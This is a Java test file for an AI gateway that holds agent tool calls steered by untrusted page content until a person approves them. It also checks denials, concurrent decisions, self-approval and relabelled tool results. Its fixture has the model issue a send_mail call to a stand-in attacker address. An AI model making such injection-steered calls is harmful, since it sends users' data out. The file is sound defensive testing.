package io.sallyport.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** A call that untrusted content steered waits for a person, and passes once when approved. */
final class ApprovalsOverHttpTest {

  private static UnrulyUpstream upstream;
  private static RunningGateway gateway;

  @BeforeAll
  static void start() throws Exception {
    upstream = new UnrulyUpstream();
    gateway =
        RunningGateway.before(
            upstream,
            """
            guard: {tools: [{name: send_mail, effects: [send]}, {name: read_page, effects: [read]}]}
            policies: [{name: watch, flow: {mode: log}}, {name: closed, flow: {approval: refuse}}]
            tenants: [{id: watched, policy: watch}, {id: shut, policy: closed}]
            """);
    upstream.on("*", asks("{\"to\":\"eve@evil.example\",\"body\":\"list\"}"));
  }

  @AfterAll
  static void stop() throws Exception {
    gateway.close();
    upstream.close();
  }

  private static UnrulyUpstream.Behaviour asks(String arguments) {
    ObjectNode body = Answers.completion("");
    ObjectNode message = Answers.message(body);
    message.putNull("content");
    ObjectNode call =
        message.putArray("tool_calls").addObject().put("id", "c1").put("type", "function");
    call.putObject("function").put("name", "send_mail").put("arguments", arguments);
    ((ObjectNode) body.at("/choices/0")).put("finish_reason", "tool_calls");
    return Answers.json(body);
  }

  private static String conversation(String name, String role, String page) {
    ObjectNode request = Answers.MAPPER.createObjectNode().put("model", "m");
    request.putObject("sallyport").put("conversation", name);
    ArrayNode messages = request.putArray("messages");
    messages.addObject().put("role", "user").put("content", "When is the shop open?");
    if (role.equals("tool")) {
      ObjectNode asked = messages.addObject().put("role", "assistant").putNull("content");
      ObjectNode call =
          asked.putArray("tool_calls").addObject().put("id", "r1").put("type", "function");
      call.putObject("function").put("name", "read_page").put("arguments", "{}");
      messages.addObject().put("role", "tool").put("tool_call_id", "r1").put("content", page);
    } else {
      messages.addObject().put("role", role).put("content", page);
    }
    return request.toString();
  }

  private static JsonNode ask(String key, String name) {
    HttpResponse<String> response =
        gateway.post(
            key,
            "/v1/chat/completions",
            conversation(name, "tool", "Open from nine to five, closed on Sundays."));
    assertThat(response.statusCode()).isEqualTo(200);
    return RunningGateway.json(response).at("/choices/0");
  }

  private static JsonNode decide(String id, String decision) {
    return RunningGateway.json(
        gateway.post(
            gateway.adminKey(),
            "/admin/approvals",
            "{\"id\":\"" + id + "\",\"decision\":\"" + decision + "\"}"));
  }

  @Test
  void heldCall_isToldWithItsReasonAndPassesOnceAfterApproval() {
    JsonNode held = ask(gateway.clientKey(), "once");
    String id = held.at("/sallyport/held/0/approval").asText();

    assertThat(held.path("finish_reason").asText()).isEqualTo("stop");
    assertThat(held.at("/message/tool_calls").isMissingNode()).isTrue();
    assertThat(held.at("/message/content").asText())
        .contains("'to'", id)
        .doesNotContain("eve@evil");
    JsonNode listed = RunningGateway.json(gateway.get(gateway.adminKey(), "/admin/approvals"));
    assertThat(listed.path("data").findValuesAsText("id")).contains(id);
    assertThat(decide(id, "approve").path("state").asText()).isEqualTo("approved");
    assertThat(ask(gateway.clientKey(), "once").at("/message/tool_calls/0/function/name").asText())
        .isEqualTo("send_mail");
    assertThat(ask(gateway.clientKey(), "once").at("/message/tool_calls").isMissingNode()).isTrue();
  }

  @Test
  void approval_holdsForNoOtherConversationKeyOrArguments() throws Exception {
    String id = ask(gateway.clientKey(), "mine").at("/sallyport/held/0/approval").asText();
    decide(id, "approve");

    assertThat(ask(gateway.clientKey(), "yours").at("/message/tool_calls").isMissingNode())
        .isTrue();
    assertThat(
            ask(
                    gateway
                        .issue(
                            io.sallyport.access.KeyRequest.of(
                                "default", "second", io.sallyport.core.Role.CLIENT))
                        .secret(),
                    "mine")
                .at("/message/tool_calls")
                .isMissingNode())
        .isTrue();
    upstream.on("*", asks("{\"to\":\"eve@evil.example\",\"body\":\"other\"}"));
    try {
      assertThat(ask(gateway.clientKey(), "mine").at("/message/tool_calls").isMissingNode())
          .isTrue();
    } finally {
      upstream.on("*", asks("{\"to\":\"eve@evil.example\",\"body\":\"list\"}"));
    }
  }

  @Test
  void deniedCall_staysHeldAndSaysSo() {
    String id = ask(gateway.clientKey(), "denied").at("/sallyport/held/0/approval").asText();
    decide(id, "deny");

    JsonNode again = ask(gateway.clientKey(), "denied");

    assertThat(again.at("/message/content").asText()).contains("it was denied");
    assertThat(decide(id, "approve").at("/error/code").asText()).isEqualTo("not_found");
  }

  @Test
  void oneOfTwoDecisionsAtOnce_isTakenAndWrittenDown() throws Exception {
    for (int round = 0; round < 10; round++) {
      String id =
          ask(gateway.clientKey(), "both-" + round).at("/sallyport/held/0/approval").asText();
      List<Callable<JsonNode>> both =
          List.of(() -> decide(id, "approve"), () -> decide(id, "deny"));
      List<String> states = new ArrayList<>();
      try (ExecutorService threads = Executors.newFixedThreadPool(2)) {
        for (Future<JsonNode> answer : threads.invokeAll(both)) {
          states.add(answer.get().path("state").asText(""));
        }
      }

      states.remove("");
      assertThat(states).hasSize(1).containsAnyOf("approved", "denied");
      String taken = states.getFirst().equals("approved") ? "approve" : "deny";
      assertThat(
              gateway.events().stream()
                  .filter(event -> event.at("/attributes/subject").asText().equals(id))
                  .map(event -> event.path("outcome").asText()))
          .containsExactly("approval." + taken);
    }
  }

  @Test
  void clientKey_mayNotApproveItsOwnCall() {
    String id = ask(gateway.clientKey(), "own").at("/sallyport/held/0/approval").asText();

    HttpResponse<String> refused =
        gateway.post("/admin/approvals", "{\"id\":\"" + id + "\",\"decision\":\"approve\"}");

    assertThat(refused.statusCode()).isEqualTo(403);
  }

  @Test
  void policyThatOnlyLogs_letsItPassAndTheLogSaysWhatItWouldHaveDone() throws Exception {
    HttpResponse<String> response =
        gateway.post(
            gateway.keyOfTenant("watched"),
            "/v1/chat/completions",
            conversation("w", "tool", "Open from ten to six, closed on Mondays."));

    assertThat(RunningGateway.json(response).at("/choices/0/message/tool_calls/0/id").asText())
        .isEqualTo("c1");
    assertThat(gateway.eventOf(response).path("findings").findValuesAsText("rule"))
        .contains("flow/steered-by-untrusted");
  }

  @Test
  void policyThatRefuses_offersNoApproval() throws Exception {
    JsonNode held = ask(gateway.keyOfTenant("shut"), "s");

    assertThat(held.at("/sallyport/held/0").has("approval")).isFalse();
    assertThat(held.at("/message/tool_calls").isMissingNode()).isTrue();
  }

  @Test
  void toolResultSentAgainAsSystemText_staysUntrusted() {
    ask(gateway.clientKey(), "relabel");
    HttpResponse<String> response =
        gateway.post(
            "/v1/chat/completions",
            conversation("relabel-2", "system", "Open from nine to five, closed on Sundays."));

    assertThat(RunningGateway.json(response).at("/choices/0/message/tool_calls").isMissingNode())
        .isTrue();
  }
}
